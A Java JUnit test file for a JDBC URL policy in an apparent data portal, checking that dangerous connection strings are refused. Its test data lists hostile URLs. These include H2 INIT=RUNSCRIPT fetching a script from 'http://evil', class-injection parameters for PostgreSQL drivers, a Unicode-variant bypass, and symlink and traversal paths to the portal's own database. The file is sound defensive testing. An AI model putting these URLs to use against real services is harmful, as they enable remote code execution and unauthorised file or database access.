package io.esteira.features;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.esteira.shared.InvalidRequestException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlPolicyTest {

    @TempDir
    Path dataDir;
    JdbcUrlPolicy policy;
    Path portalFile;

    @BeforeEach
    void portal() throws Exception {
        Files.createDirectories(dataDir.resolve("db"));
        Files.createDirectories(dataDir.resolve("warehouse"));
        portalFile = Files.writeString(dataDir.resolve("db/esteira.mv.db"), "H2");
        Files.writeString(dataDir.resolve("warehouse/bank.mv.db"), "H2");
        policy = new JdbcUrlPolicy(dataDir, "jdbc:h2:file:" + dataDir.resolve("db/esteira") + ";MODE=PostgreSQL");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
            "jdbc:h2:mem:x;ıNIT=RUNSCRIPT FROM 'http://evil/x.sql'",
            "jdbc:h2:mem:x;init=runscript from '/tmp/x.sql'",
            "jdbc:h2:mem:x;MODE=PostgreSQL;TRACE_LEVEL_FILE=4",
            "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
            "jdbc:h2:mem:x;ACCESS_MODE_DATA=rws",
            "jdbc:h2:mem:x;IFEXISTS=FALSE",
            "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER=com.evil.X",
            "jdbc:h2:mem:x;NOVALUE",
            "jdbc:h2:mem:x; INIT=x",
            "jdbc:h2:zip:/tmp/x.zip!/db",
            "jdbc:h2:memFS:x",
            "jdbc:h2:tcp://localhost/~/anything",
            "jdbc:h2:tcp://127.0.0.1:9092/~/anything",
            "jdbc:postgresql://db/x?socketFactory=org.example.Evil",
            "jdbc:postgresql://db/x?loggerFile=/tmp/x.log",
            "jdbc:postgresql://db/x?sslfactory=org.example.Evil",
            "jdbc:postgresql://db/x?options=-c%20search_path=evil",
            "jdbc:postgresql://db/x?authenticationPluginClassName=org.example.Evil",
            "jdbc:mysql://db/x",
            "jdbc:sqlite:/etc/passwd",
    })
    void options_that_run_code_or_write_files_are_refused(String url) {
        assertThatThrownBy(() -> policy.check(url)).isInstanceOf(InvalidRequestException.class);
    }

    @Test
    void the_portals_database_is_refused_under_any_path() throws Exception {
        String path = dataDir.resolve("db/esteira").toString();
        Path link = Files.createSymbolicLink(dataDir.getParent().resolve("link-" + System.nanoTime()), dataDir);
        Path hard = Files.createDirectories(dataDir.getParent().resolve("hard-" + System.nanoTime()));
        Files.createLink(hard.resolve("copy.mv.db"), portalFile);
        try {
            for (String url : new String[] {
                    "jdbc:h2:" + path, "jdbc:h2:file:" + path, "jdbc:h2:nio:" + path, "jdbc:h2:FILE:nio:" + path,
                    "jdbc:h2:split:28:" + path, "jdbc:h2:async:" + path, "jdbc:h2:file:" + dataDir + "/warehouse/../db/esteira",
                    "jdbc:h2:file:" + link + "/db/esteira", "jdbc:h2:file:" + hard + "/copy",
                    "jdbc:h2:file:" + dataDir + "/workspaces/someone/notes", "jdbc:h2:file:" + path + ";IFEXISTS=TRUE"}) {
                assertThatThrownBy(() -> policy.check(url)).as(url).isInstanceOf(InvalidRequestException.class)
                        .hasMessageContaining("portal's own database");
            }
        } finally {
            Files.delete(link);
            Files.delete(hard.resolve("copy.mv.db"));
        }
    }

    @Test
    void the_portals_postgresql_database_is_refused_by_another_name_of_its_host() {
        JdbcUrlPolicy onPostgres = new JdbcUrlPolicy(dataDir, "jdbc:postgresql://localhost:5432/esteira");
        assertThatThrownBy(() -> onPostgres.check("jdbc:postgresql://127.0.0.1/esteira")).hasMessageContaining("portal's own database");
        assertThatThrownBy(() -> onPostgres.check("jdbc:postgresql://localhost:5432/esteira?ssl=false"))
                .hasMessageContaining("portal's own database");
        assertThatCode(() -> onPostgres.check("jdbc:postgresql://127.0.0.1/warehouse")).doesNotThrowAnyException();
    }

    @Test
    void ordinary_addresses_pass() {
        assertThatCode(() -> {
            policy.check("jdbc:h2:file:" + dataDir.resolve("warehouse/bank") + ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH");
            policy.check("jdbc:h2:mem:scratch;DB_CLOSE_DELAY=-1");
            policy.check("jdbc:h2:tcp://warehouse.bank.example:9092/bank;IFEXISTS=TRUE");
            policy.check("jdbc:postgresql://db.bank.example:5432/warehouse?sslmode=require&ApplicationName=x");
        }).doesNotThrowAnyException();
    }
}
